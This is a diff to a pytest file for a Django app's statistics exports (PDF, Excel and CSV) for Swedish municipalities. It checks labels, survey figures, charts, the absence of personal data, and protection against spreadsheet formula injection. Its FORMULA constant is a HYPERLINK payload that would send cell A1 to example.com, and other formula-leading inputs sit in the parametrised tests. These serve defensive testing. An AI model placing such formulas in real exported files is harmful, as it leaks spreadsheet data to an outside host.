@@ -6,23 +6,26 @@ openpyxl, the CSV with the csv module.
 
 import csv
 import io
+import re
 import zipfile
 from datetime import date
 from decimal import Decimal
+from html.parser import HTMLParser
 
 import pytest
+from django.template.loader import render_to_string
 from django.urls import reverse
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
 from reporting import exports
-from reporting.models import Certification
+from reporting.models import Certification, SurveyResponse
 from reporting.report import Cell, Share, build_report, period_from_code, period_from_dates
 from sehoglandet.models import AccessLog, Municipality
 from sehoglandet.spreadsheets import csv_safe
 from tests import factories
 
-from .test_report_views import H1, SECRET_FIRST_NAME, known_dataset, report_rows
+from .test_report_views import H1, SECRET_FIRST_NAME, known_dataset, report_rows, url
 
 FORMULA = '=HYPERLINK("http://example.com/?"&A1,"Klicka")'
 
@@ -60,6 +63,27 @@ def certified(people):
     )
 
 
+# Six forms from Nässjö in March 2026, the first two questions answered: gender, q1, q2.
+SURVEY_FORMS = [("woman", 5, 6), ("woman", 6, 2), ("woman", 2, 4), ("woman", 4, 1), ("woman", 4, 5), ("man", 1, 6)]
+
+
+@pytest.fixture
+def surveyed(people):
+    for gender, first, second in SURVEY_FORMS:
+        SurveyResponse.objects.create(
+            municipality=factories.municipality("nassjo"),
+            answered_on=date(2026, 3, 10),
+            gender=gender,
+            q1=first,
+            q2=second,
+            entered_by=people["coach.nassjo"],
+        )
+
+
+def workbook_of(client) -> object:
+    return load_workbook(io.BytesIO(export(client, "xlsx").content))
+
+
 # The files as downloads
 
 
@@ -89,8 +113,8 @@ def test_a_managers_download_holds_their_municipality_only(client_for, known):
 
     assert response["Content-Disposition"] == 'attachment; filename="statistik-2026H1-nassjo.csv"'
     rows = csv_rows(response.content)
-    assert ["Deltagare", "Aktiva någon gång under perioden", "6", "5", "1–3", "12"] in rows
-    assert ["Om rapporten", "Kommun", "", "", "", "Nässjö"] in rows
+    assert ["Deltagare", "Aktiva någon gång under perioden", "6", "5", "1–3", "12", "", ""] in rows
+    assert ["Om rapporten", "Kommun", "", "", "", "Nässjö", "", ""] in rows
 
 
 @pytest.mark.parametrize("file_format", ["pdf", "xlsx", "csv"])
@@ -139,12 +163,28 @@ def test_the_pdf_draws_the_goal_and_caseload_charts(client_for, known):
     charts = exports.charts(report)
 
     exit_chart, caseload_chart = charts  # no survey answers: no survey chart
-    assert [bar.label for bar in exit_chart.bars] == ["Kvinnor", "Totalt"]
-    assert [bar.width for bar in exit_chart.bars] == [250.0, 200.0]
+    assert [(bar.label, bar.value.replace("\xa0", " "), bar.width) for bar in exit_chart.bars] == [
+        ("Kvinnor", "100,0 %", 250.0),
+        ("Män", "för få", None),  # one man exited: a row that says so, no bar
+        ("Totalt", "80,0 %", 200.0),
+    ]
     assert exit_chart.goal_x == 200 + 0.35 * 250
     nassjo = next(bar for bar in caseload_chart.bars if bar.label == "Nässjö")
     assert nassjo.value == "7 / 36"
     assert nassjo.marker == 200 + 250.0  # Nässjö has the most places: the scale's end
+
+
+def test_the_pdf_draws_each_value_where_the_layout_put_it_and_no_bar_for_too_few(known):
+    shown = exports.present(build_report(period_from_code("2026H1")))
+    charts = exports.charts(shown)
+
+    html = render_to_string("reporting/report_pdf.html", {"report": shown, "charts": charts})
+
+    exit_chart = html[html.index("<svg") : html.index("</svg>")]
+    assert exit_chart.count("<rect") == 2  # women and the total; the men's share is too few
+    for bar in charts[0].bars:
+        assert f'<text x="{bar.value_x}" y="{bar.text_y}"' in exit_chart
+        assert f">{bar.value}</text>" in exit_chart
 
 
 def test_the_pdf_never_holds_a_name_or_a_personnummer(client_for, known):
@@ -179,12 +219,107 @@ def test_no_workbook_cell_can_become_a_formula(client_for, known, certified):
 
     workbook = load_workbook(io.BytesIO(content))
     comment = workbook["Intyganden"]["G4"]
-    assert (comment.value, comment.data_type) == (FORMULA, "s")
-    eksjo = next(row[0] for row in workbook["Beläggning"].iter_rows(min_row=4) if row[0].value == "=1+2")
+    assert (comment.value, comment.data_type) == (f"'{FORMULA}", "s")
+    eksjo = next(row[0] for row in workbook["Beläggning"].iter_rows(min_row=4) if row[0].value == "'=1+2")
     assert eksjo.data_type == "s"
     with zipfile.ZipFile(io.BytesIO(content)) as archive:
         sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
     assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
+
+
+@pytest.mark.parametrize("comment", [FORMULA, "-1+2", "@SUM(A1)", "+1"])
+def test_workbook_text_starting_like_a_formula_gets_an_apostrophe_as_in_the_csv(client_for, known, people, comment):
+    Certification.objects.filter(municipality__code="nassjo").delete()
+    Certification.objects.create(
+        municipality=factories.municipality("nassjo"),
+        period_start=date(2026, 1, 1),
+        period_end=date(2026, 6, 30),
+        follows_description=True,
+        fte_as_agreed=True,
+        comment=comment,
+        certified_by=people["chef.nassjo"],
+    )
+
+    workbook = workbook_of(client_for("forbundschef"))
+
+    cell = workbook["Intyganden"]["G4"]
+    assert (cell.value, cell.data_type) == (csv_safe(comment), "s") == (f"'{comment}", "s")
+    participants = workbook["Deltagare"]["B4"]  # numbers stay numbers
+    assert (type(participants.value), participants.data_type) == (int, "n")
+
+
+def test_the_survey_sheet_and_the_csv_keep_the_number_of_answers_per_question(client_for, known, surveyed):
+    client = client_for("forbundschef")
+    shown = client.get(url(), H1).context["report"]
+
+    survey = workbook_of(client)["Enkät"]
+    rows = csv_rows(export(client, "csv").content)
+
+    header = ["Fråga", "Kvinnor", "Män", "Annat eller ej angivet", "Totalt", "Svar", "Mål"]
+    assert [cell.value for cell in survey[3]] == header
+    for number, question in enumerate(shown.survey[:2], start=1):
+        answered = question.answered[-1].number
+        assert [cell.value for cell in survey[3 + number]][5:] == [answered, question.verdict]
+        row = next(row for row in rows if row[1] == f"{number}. {question.question}")
+        assert row[6:] == [str(answered), question.verdict]
+    assert rows[0][6] == "Svar"
+
+
+class PageLabels(HTMLParser):
+    """The page's headings, captions, header cells and terms (`labels`), its paragraphs and its text."""
+
+    TAGS = {"h2", "h3", "caption", "th", "dt", "p"}
+
+    def __init__(self, html: str):
+        super().__init__()
+        self.open: list[list[str]] = []
+        self.labels: set[str] = set()
+        self.paragraphs: set[str] = set()
+        self.text = ""
+        self.feed(html[html.index("<main") :])
+        self.text = plain(self.text)
+
+    def handle_starttag(self, tag, attrs):
+        if tag in self.TAGS:
+            self.open.append([tag, ""])
+
+    def handle_endtag(self, tag):
+        if self.open and self.open[-1][0] == tag:
+            tag, text = self.open.pop()
+            (self.paragraphs if tag == "p" else self.labels).add(plain(text))
+
+    def handle_data(self, data):
+        self.text += f" {data}"
+        for element in self.open:
+            element[1] += data
+
+
+def plain(text) -> str:
+    return re.sub(r"\s+", " ", str(text).replace("\xa0", " ")).strip()
+
+
+def test_the_workbook_and_the_csv_use_the_pages_row_and_column_labels(client_for, known, surveyed, certified):
+    client = client_for("forbundschef")
+    page = PageLabels(client.get(url(), H1).content.decode())
+    workbook = workbook_of(client)
+    rows = csv_rows(export(client, "csv").content)
+
+    for sheet in workbook.worksheets[1:]:  # after the sheet about the report
+        bold = [cell.value for row in sheet.iter_rows() for cell in row if cell.value and cell.font.bold]
+        assert {plain(text) for text in bold} <= page.labels, sheet.title
+        if sheet.title != "Intyganden":  # its first column is the municipality that certified
+            first_column = [plain(cell.value) for cell in sheet["A"] if isinstance(cell.value, str)]
+            assert set(first_column) <= page.labels | page.paragraphs, sheet.title
+
+    figures = [row for row in rows[1:] if row[0] != "Om rapporten"]
+    assert {plain(cell) for cell in rows[0][1:]} <= page.labels
+    assert {plain(row[0]) for row in figures} <= page.labels
+    for row in figures:
+        parts = row[1].split(": ") if row[0] == "Beläggning" else [row[1]]  # municipality: column
+        assert {plain(part) for part in parts} <= page.labels, row
+    judgements = {plain(row[7]) for row in figures if row[7]}
+    assert len(judgements) == 3  # the exit goal's, and the survey's "not met" and "no answers"
+    assert all(judgement in page.text for judgement in judgements), judgements
 
 
 # The CSV
@@ -193,9 +328,9 @@ def test_no_workbook_cell_can_become_a_formula(client_for, known, certified):
 def test_the_csv_holds_every_table_row_with_semicolons_and_a_byte_order_mark(client_for, known):
     rows = csv_rows(export(client_for("forbundschef"), "csv").content)
 
-    assert rows[0] == ["Tabell", "Rad", "Kvinnor", "Män", "Annat eller ej angivet", "Totalt"]
-    assert rows[1] == ["Om rapporten", "Period", "", "", "", "Första halvåret 2026 (2026-01-01 – 2026-06-30)"]
-    participants = [row[1:] for row in rows if row[0] == "Deltagare"]
+    assert rows[0] == ["Tabell", "Uppgift", "Kvinnor", "Män", "Annat eller ej angivet", "Totalt", "Svar", "Mål"]
+    assert rows[1][:6] == ["Om rapporten", "Period", "", "", "", "Första halvåret 2026 (2026-01-01 – 2026-06-30)"]
+    participants = [row[1:6] for row in rows if row[0] == "Deltagare"]
     assert participants == [
         ["Aktiva någon gång under perioden", "6", "7", "1–3", "14"],
         ["Nya inskrivningar", "6", "7", "1–3", "14"],
@@ -204,11 +339,14 @@ def test_the_csv_holds_every_table_row_with_semicolons_and_a_byte_order_mark(cli
         ["I kö vid periodens slut", "0", "0", "0", "0"],
         ["Avslutade under perioden", "4", "1–3", "0", "5"],
     ]
-    assert ["Avslut per orsak", "Totalt", "4", "1–3", "0", "5"] in rows
-    assert ["Mål och tid i insatsen", "Avslut till arbete eller studier", "100,0 %", "för få", "–", "80,0 %"] in rows
-    assert ["Beläggning vid periodens slut", "Nässjö: aktiva", "", "", "", "7"] in rows
-    assert ["Beläggning vid periodens slut", "Nässjö: platser", "", "", "", "36"] in rows
-    assert all(len(row) == 6 for row in rows)
+    assert ["Avslut per orsak", "Totalt", "4", "1–3", "0", "5", "", ""] in rows
+    goal = next(row for row in rows if row[1] == "Avslut till arbete eller studier")
+    assert goal[:7] == ["Mål och nyckeltal", "Avslut till arbete eller studier", "100,0 %", "för få", "–", "80,0 %", ""]
+    assert goal[7] == "Målet är uppnått. 80,0 % av dem som avslutades gick till arbete eller studier; målet är 35 %."
+    assert ["Beläggning", "Nässjö: Aktiva vid periodens slut", "", "", "", "7", "", ""] in rows
+    assert ["Beläggning", "Nässjö: Platser", "", "", "", "36", "", ""] in rows
+    assert ["Beläggning", "Nässjö: Coachtjänster", "", "", "", "180 %", "", ""] in rows
+    assert all(len(row) == 8 for row in rows)
 
 
 def test_no_csv_cell_can_become_a_formula(client_for, known):
@@ -216,7 +354,7 @@ def test_no_csv_cell_can_become_a_formula(client_for, known):
 
     rows = csv_rows(export(client_for("forbundschef"), "csv").content)
 
-    assert ["Beläggning vid periodens slut", "'=1+2: aktiva", "", "", "", "2"] in rows
+    assert ["Beläggning", "'=1+2: Aktiva vid periodens slut", "", "", "", "2", "", ""] in rows
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
 
 
